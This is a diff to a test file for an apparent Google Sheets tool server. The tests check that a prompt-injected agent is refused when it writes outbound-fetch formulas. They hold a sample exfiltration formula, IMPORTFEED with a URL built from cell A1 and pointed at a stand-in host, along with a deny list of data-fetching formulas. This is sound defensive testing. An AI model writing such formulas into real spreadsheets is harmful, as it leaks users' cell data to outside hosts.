@@ -168,7 +168,7 @@ describe('under a ceiling, the injected agent is refused before Google', () => {
 
   it('=IMAGE of a URL built from a cell, in write_range (dry run too) and batch_update: refused naming OUTBOUND_FETCH_FORMULAS', async () => {
     const expected =
-      'Nothing was sent to Google: IMAGE makes Google fetch from example.net, sending what the URL holds (cells included) each time the sheet is computed, which this server does not allow (its operator set OUTBOUND_FETCH_FORMULAS=deny: no IMPORTXML, IMPORTDATA, IMPORTHTML, IMPORTFEED, IMAGE, IMPORTRANGE formulas). Write the values themselves instead.';
+      'Nothing was sent to Google: IMAGE makes Google fetch from example.net, sending what the URL holds (cells included) each time the sheet is computed, which this server does not allow (its operator set OUTBOUND_FETCH_FORMULAS=deny: no IMPORTXML, IMPORTDATA, IMPORTHTML, IMPORTFEED, IMPORTRANGE, IMAGE formulas). Write the values themselves instead.';
     for (const dryRun of [false, true]) {
       expect(
         await refused('write_range', { spreadsheetId: book, range: 'B1', values: [[EXFILTRATING]], dryRun }),
@@ -199,10 +199,13 @@ describe('under a ceiling, the injected agent is refused before Google', () => {
       replacement: 'IMPORTXML',
       includeFormulas: true,
     });
-    await refused('evaluate_formulas', {
-      spreadsheetId: book,
-      formulas: ['=IMPORTFEED("https://x.test/"&A1)'],
-    });
+    // evaluate_formulas refuses them whatever the ceiling (kit/formula-text.ts).
+    expect(
+      await refused('evaluate_formulas', {
+        spreadsheetId: book,
+        formulas: ['=IMPORTFEED("https://x.test/"&A1)'],
+      }),
+    ).toMatch(/IMPORTFEED fetches from outside the spreadsheet/);
   });
 
   it('a destructive call is refused before the person is asked to confirm it (a 2026-07-28 client that can elicit)', async () => {
